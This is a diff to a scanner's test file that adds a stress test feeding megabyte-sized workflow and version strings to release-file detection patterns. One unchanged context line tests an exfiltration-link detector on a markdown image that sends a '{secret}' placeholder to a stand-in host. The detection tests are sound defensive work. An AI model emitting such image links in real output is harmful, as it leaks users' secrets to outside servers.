@@ -19,6 +19,8 @@ import { findInjectedPhrases } from '../src/detect/phrases.js';
 import { findSecret, findSecretField } from '../src/detect/secrets.js';
 import type { FileResult, Finding } from '../src/engine/finding.js';
 import { lintSource } from '../src/engine/lint.js';
+import { isPrerelease } from '../src/formats/consistency/rules/version.js';
+import { PACKS, versionRewrite } from '../src/formats/release-files.js';
 import { formatAnnotations } from '../src/report/annotations.js';
 import { formatJson } from '../src/report/json.js';
 import { formatText } from '../src/report/text.js';
@@ -218,6 +220,28 @@ describe('bounded work on adversarial text', () => {
     expect(findExfiltrationLinks('![x](https://host.example/?d={secret})')).toEqual([
       { url: 'https://host.example/?d={secret}', placeholder: '{secret}', kind: 'image' },
     ]);
+  }, 30_000);
+
+  it('reads megabyte workflows and versions shaped to make the release-file patterns retry, and returns', () => {
+    const shapes = [
+      `mcpb${' '.repeat(1_000_000)}x`,
+      'mcpb '.repeat(200_000),
+      `${'sed'.repeat(300_000)} version server.json`,
+      `1a${'1'.repeat(1_000_000)}x`,
+      `.dev${'1'.repeat(1_000_000)}x`,
+      '-dev'.repeat(250_000),
+      'jq server.json \\\n'.repeat(60_000),
+    ];
+    for (const text of shapes) {
+      expect(PACKS.test(text)).toBe(false);
+      expect(isPrerelease(text)).toBe(text.startsWith('-dev') || text.startsWith('.dev'));
+      const files = { '.github/workflows/release.yml': text };
+      const at = { list: () => ['release.yml'], head: (path: string) => (path in files ? Buffer.from(text) : undefined) };
+      expect(versionRewrite(at, 'server.json')).toBeUndefined();
+    }
+    // They still find what they exist for.
+    expect(PACKS.test('run: npx @anthropic-ai/mcpb pack bundles/weather')).toBe(true);
+    expect(isPrerelease('1.7.1.dev0')).toBe(true);
   }, 30_000);
 
   it('spreads 100,000 findings over annotations, keeping one of each level per file first', () => {
